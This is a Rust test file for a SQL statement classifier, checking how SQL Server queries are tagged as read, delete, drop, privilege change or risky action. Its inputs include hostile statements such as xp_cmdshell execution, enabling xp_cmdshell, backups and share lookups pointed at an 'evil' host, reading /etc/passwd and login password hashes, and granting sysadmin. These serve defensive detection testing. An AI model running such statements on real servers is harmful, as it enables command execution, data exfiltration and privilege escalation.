//! SQL Server.

use inspect::sql::Dialect;

use super::check;

#[test]
fn statements_of_sql_server() {
    check(
        Dialect::SqlServer,
        &[
            ("EXEC('DROP' + ' TABLE t')", "ddl drop call obscured"),
            (
                "EXEC sp_executesql N'DELETE FROM t WHERE id = @id', N'@id int', @id = 1",
                "delete call",
            ),
            (
                "EXEC sp_executesql @stmt = N'DELETE FROM t'",
                "delete call unfiltered",
            ),
            ("EXEC('EXEC(''DROP TABLE t'')')", "ddl drop call"),
            ("EXEC('SELECT 1') AT linked", "read call !remote_connection"),
            (
                "INSERT INTO linked.db.dbo.t VALUES (1)",
                "insert !remote_connection",
            ),
            (
                "SELECT TOP 10 * FROM dbo.Users WHERE Name = N'DROP TABLE x'",
                "read",
            ),
            (
                "SELECT [drop], [delete from], [a]]b] FROM [Order Details]",
                "read",
            ),
            ("SELECT * FROM t WITH (NOLOCK)", "read"),
            ("SELECT * FROM t WHERE a = @p1", "read"),
            (
                "SELECT GETDATE(), DATEADD(day, 1, x), ISNULL(a, 0), LEN(b), CONVERT(varchar(10), c, 120), IIF(a > 1, 2, 3) FROM t",
                "read",
            ),
            ("SELECT * FROM sys.tables", "read"),
            ("SELECT * FROM INFORMATION_SCHEMA.COLUMNS", "read"),
            (
                "SELECT a FROM t ORDER BY a OFFSET 10 ROWS FETCH NEXT 5 ROWS ONLY",
                "read",
            ),
            ("SELECT * FROM t FOR JSON PATH", "read"),
            (
                "SELECT * FROM t CROSS APPLY (SELECT TOP 1 * FROM u WHERE u.id = t.id) x",
                "read",
            ),
            ("SELECT * FROM OPENJSON(@j) WITH (id int '$.id')", "read"),
            ("SELECT value FROM STRING_SPLIT('a,b', ',')", "read"),
            ("WITH c AS (SELECT 1 AS n) SELECT * FROM c", "read"),
            ("SELECT 1 SELECT 2", "read"),
            ("SELECT a AS [shutdown] FROM t", "read"),
            (
                "SELECT OrderDate, DeletedAt, UpdateCount FROM Drops",
                "read",
            ),
            ("DECLARE @x int = 1; SELECT @x", "read session"),
            (
                "DECLARE @x int; SET @x = 5; SELECT * FROM t WHERE id = @x",
                "read session",
            ),
            ("EXEC sp_help 'Users'", "read"),
            ("EXEC sp_helptext 'dbo.p'", "read"),
            ("EXEC sp_columns Users", "read"),
            ("USE Shop", "read"),
            ("USE Shop; SELECT 1", "read"),
            ("SET NOCOUNT ON", "session"),
            ("SET NOCOUNT ON; SELECT * FROM t", "read session"),
            ("PRINT 'drop table'", "call"),
            ("IF EXISTS (SELECT 1 FROM t) SELECT 1", "read call"),
            ("BEGIN TRANSACTION", "transaction"),
            ("SELECT COUNT(*) FROM t GROUP BY ROLLUP(a)", "read"),
            (
                "SELECT * FROM a PIVOT (SUM(x) FOR y IN ([1],[2])) p",
                "read",
            ),
            ("SELECT 'x' + 'DELETE FROM t'", "read"),
            (
                "SELECT @@VERSION, @@ROWCOUNT, SUSER_SNAME(), DB_NAME()",
                "read",
            ),
            ("INSERT INTO t (a) VALUES (1)", "insert"),
            ("INSERT INTO t OUTPUT inserted.id VALUES (1)", "insert"),
            (
                "INSERT INTO t EXEC sp_who",
                "insert call !dynamic_sql ?does_not_parse",
            ),
            ("UPDATE t SET a = 1 WHERE id = 1", "update"),
            ("UPDATE t SET a = 1", "update unfiltered"),
            (
                "UPDATE t SET a = 1 FROM t JOIN u ON t.id = u.id",
                "update unfiltered",
            ),
            (
                "UPDATE t SET a = 1 FROM t JOIN u ON t.id = u.id WHERE u.x = 1",
                "update",
            ),
            ("DELETE FROM t WHERE id = 1", "delete"),
            ("DELETE t", "delete unfiltered ?does_not_parse"),
            (
                "DELETE TOP (10) FROM t",
                "delete unfiltered ?does_not_parse",
            ),
            (
                "DELETE FROM t OUTPUT deleted.* INTO archive WHERE id = 1",
                "insert delete ddl",
            ),
            (
                "WITH c AS (SELECT * FROM t) DELETE FROM c",
                "read delete unfiltered",
            ),
            ("TRUNCATE TABLE t", "delete unfiltered"),
            (
                "SELECT * INTO backup FROM t",
                "read insert ddl admin !file_access ?ambiguous",
            ),
            (
                "MERGE t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED BY SOURCE THEN DELETE;",
                "update delete unfiltered",
            ),
            (
                "MERGE t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a;",
                "update",
            ),
            ("DROP TABLE t", "ddl drop"),
            ("DROP DATABASE Shop", "ddl drop !drop_database"),
            ("SELECT 1 DROP TABLE t", "read ddl drop"),
            ("SELECT a FROM t DROP TABLE t", "read ddl drop"),
            (
                "SELECT a FROM t SHUTDOWN",
                "read admin !backend_control ?ambiguous",
            ),
            (
                "SELECT a FROM t SHUTDOWN WITH NOWAIT",
                "read admin !backend_control ?does_not_parse",
            ),
            (
                "SELECT 1 a EXEC xp_cmdshell 'dir'",
                "read admin call !program_execution",
            ),
            (
                "SELECT 1 EXEC xp_cmdshell 'dir'",
                "read admin call !program_execution",
            ),
            ("EXEC xp_cmdshell 'dir'", "admin call !program_execution"),
            (
                "EXEC master..xp_cmdshell 'dir'",
                "admin call !program_execution",
            ),
            (
                "EXEC master.dbo.xp_cmdshell 'dir'",
                "admin call !program_execution",
            ),
            (
                "EXECUTE [master]..[xp_cmdshell] 'dir'",
                "admin call !program_execution",
            ),
            (
                "EXEC xp_regread 'HKEY_LOCAL_MACHINE', 'x', 'y'",
                "admin call !program_execution",
            ),
            (
                "EXEC xp_dirtree '\\\\evil\\share'",
                "read call !file_access",
            ),
            (
                "EXEC sp_OACreate 'WScript.Shell', @x OUT",
                "admin call !program_execution !dynamic_sql ?does_not_parse",
            ),
            (
                "EXEC sp_configure 'show advanced options', 1",
                "admin call !backend_control",
            ),
            (
                "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
                "admin call !backend_control ?does_not_parse",
            ),
            ("RECONFIGURE", "admin !backend_control ?does_not_parse"),
            (
                "RECONFIGURE WITH OVERRIDE",
                "admin !backend_control ?does_not_parse",
            ),
            ("EXEC('DROP TABLE t')", "ddl drop call"),
            ("EXEC(@sql)", "call !dynamic_sql obscured ?unlisted_node"),
            (
                "EXECUTE('SELECT ' + @x)",
                "call !dynamic_sql obscured ?unlisted_node",
            ),
            ("EXEC sp_executesql N'SELECT 1'", "read call"),
            (
                "DECLARE @q nvarchar(100) = 'drop table x'; EXEC(@q)",
                "session call !dynamic_sql obscured ?unlisted_node",
            ),
            ("EXEC my_proc 1", "call ?unlisted_function"),
            ("my_proc 1", "?does_not_parse"),
            (
                "EXEC ('xp_cmdshell ''dir''') AT linked",
                "admin call !program_execution !remote_connection ?does_not_parse",
            ),
            ("EXECUTE AS LOGIN = 'sa'", "privilege !access_escalation"),
            ("REVERT", "session ?does_not_parse"),
            (
                "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil', 'SELECT 1')",
                "read !file_access !remote_connection",
            ),
            (
                "SELECT * FROM OPENROWSET(BULK '/etc/passwd', SINGLE_CLOB) AS x",
                "read insert copy !file_access !remote_connection ?does_not_parse",
            ),
            (
                "SELECT * FROM OPENQUERY(linked, 'DELETE FROM t')",
                "read !file_access !remote_connection",
            ),
            (
                "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'x').db.dbo.t",
                "read !file_access !remote_connection ?does_not_parse",
            ),
            ("SELECT * FROM linked.db.dbo.t", "read !remote_connection"),
            (
                "BULK INSERT t FROM 'C:\\x.csv'",
                "insert copy !file_access ?does_not_parse",
            ),
            ("WAITFOR DELAY '0:0:10'", "session !time_delay"),
            (
                "SELECT 1; WAITFOR DELAY '0:0:10'",
                "read session !time_delay",
            ),
            ("SHUTDOWN", "admin !backend_control ?does_not_parse"),
            (
                "SHUTDOWN WITH NOWAIT",
                "admin !backend_control ?does_not_parse",
            ),
            ("KILL 55", "admin !backend_control"),
            ("DBCC SHRINKDATABASE(Shop)", "admin ?does_not_parse"),
            ("DBCC FREEPROCCACHE", "admin ?does_not_parse"),
            ("DBCC CHECKDB", "admin ?does_not_parse"),
            (
                "BACKUP DATABASE Shop TO DISK = '\\\\evil\\x'",
                "admin !file_access ?does_not_parse",
            ),
            (
                "RESTORE DATABASE Shop FROM DISK = 'x'",
                "admin !file_access ?does_not_parse",
            ),
            (
                "ALTER DATABASE Shop SET OFFLINE",
                "ddl admin ?does_not_parse",
            ),
            (
                "ALTER SERVER ROLE sysadmin ADD MEMBER bob",
                "ddl privilege admin !access_escalation ?does_not_parse",
            ),
            (
                "ALTER ROLE db_owner ADD MEMBER bob",
                "privilege !access_escalation",
            ),
            (
                "EXEC sp_addsrvrolemember 'bob', 'sysadmin'",
                "privilege call !access_escalation",
            ),
            (
                "CREATE LOGIN bob WITH PASSWORD = 'x'",
                "ddl privilege !access_escalation ?does_not_parse",
            ),
            (
                "CREATE USER bob FOR LOGIN bob",
                "ddl privilege !access_escalation ?does_not_parse",
            ),
            (
                "ALTER LOGIN sa ENABLE",
                "ddl privilege !access_escalation ?does_not_parse",
            ),
            ("GRANT CONTROL SERVER TO bob", "privilege ?does_not_parse"),
            ("GRANT SELECT ON t TO bob", "privilege"),
            ("DENY SELECT ON t TO bob", "privilege"),
            ("REVOKE SELECT ON t FROM bob", "privilege"),
            (
                "ALTER AUTHORIZATION ON DATABASE::Shop TO sa",
                "ddl privilege !access_escalation ?does_not_parse",
            ),
            (
                "DISABLE TRIGGER tr ON t",
                "ddl !security_disabled ?does_not_parse",
            ),
            (
                "ALTER TABLE t DISABLE TRIGGER ALL",
                "ddl !security_disabled",
            ),
            (
                "ALTER TABLE t NOCHECK CONSTRAINT ALL",
                "ddl ?does_not_parse",
            ),
            (
                "CREATE ASSEMBLY a FROM 'x.dll' WITH PERMISSION_SET = UNSAFE",
                "ddl !untrusted_code ?does_not_parse",
            ),
            (
                "EXEC sp_addlinkedserver 'evil'",
                "admin call !remote_connection",
            ),
            (
                "SELECT name, password_hash FROM sys.sql_logins",
                "read !privileged_catalog",
            ),
            (
                "SELECT * FROM master..syslogins",
                "read !privileged_catalog",
            ),
            (
                "SELECT * FROM master.sys.sql_logins",
                "read !privileged_catalog",
            ),
            (
                "CREATE PROCEDURE p AS BEGIN DELETE FROM t END",
                "delete ddl transaction unfiltered ?does_not_parse",
            ),
            (
                "CREATE TRIGGER tr ON t AFTER INSERT AS BEGIN SELECT 1 END",
                "read insert ddl transaction ?does_not_parse",
            ),
            ("CREATE TABLE #tmp (id int)", "ddl"),
            ("SELECT * FROM #tmp", "read"),
            ("GO", "?does_not_parse"),
            ("!!dir", "!meta_command ?does_not_parse"),
            ("SET IDENTITY_INSERT t ON", "session"),
            ("SELECT fn_x(1)", "read call ?unlisted_function"),
            ("SELECT dbo.fn_x(1)", "read call ?unlisted_function"),
            ("SELECT x.value('(/a)[1]', 'int') FROM t", "read"),
            ("WHILE 1=1 SELECT 1", "?does_not_parse"),
            ("IF 1=1 DROP TABLE t", "ddl drop call"),
            (
                "BEGIN TRY DELETE FROM t END TRY BEGIN CATCH SELECT 1 END CATCH",
                "read delete transaction unfiltered",
            ),
            ("ENABLE TRIGGER tr ON t", "?does_not_parse"),
            ("DROP LOGIN bob", "ddl drop privilege ?does_not_parse"),
            ("DROP USER bob", "ddl drop privilege"),
        ],
    );
}
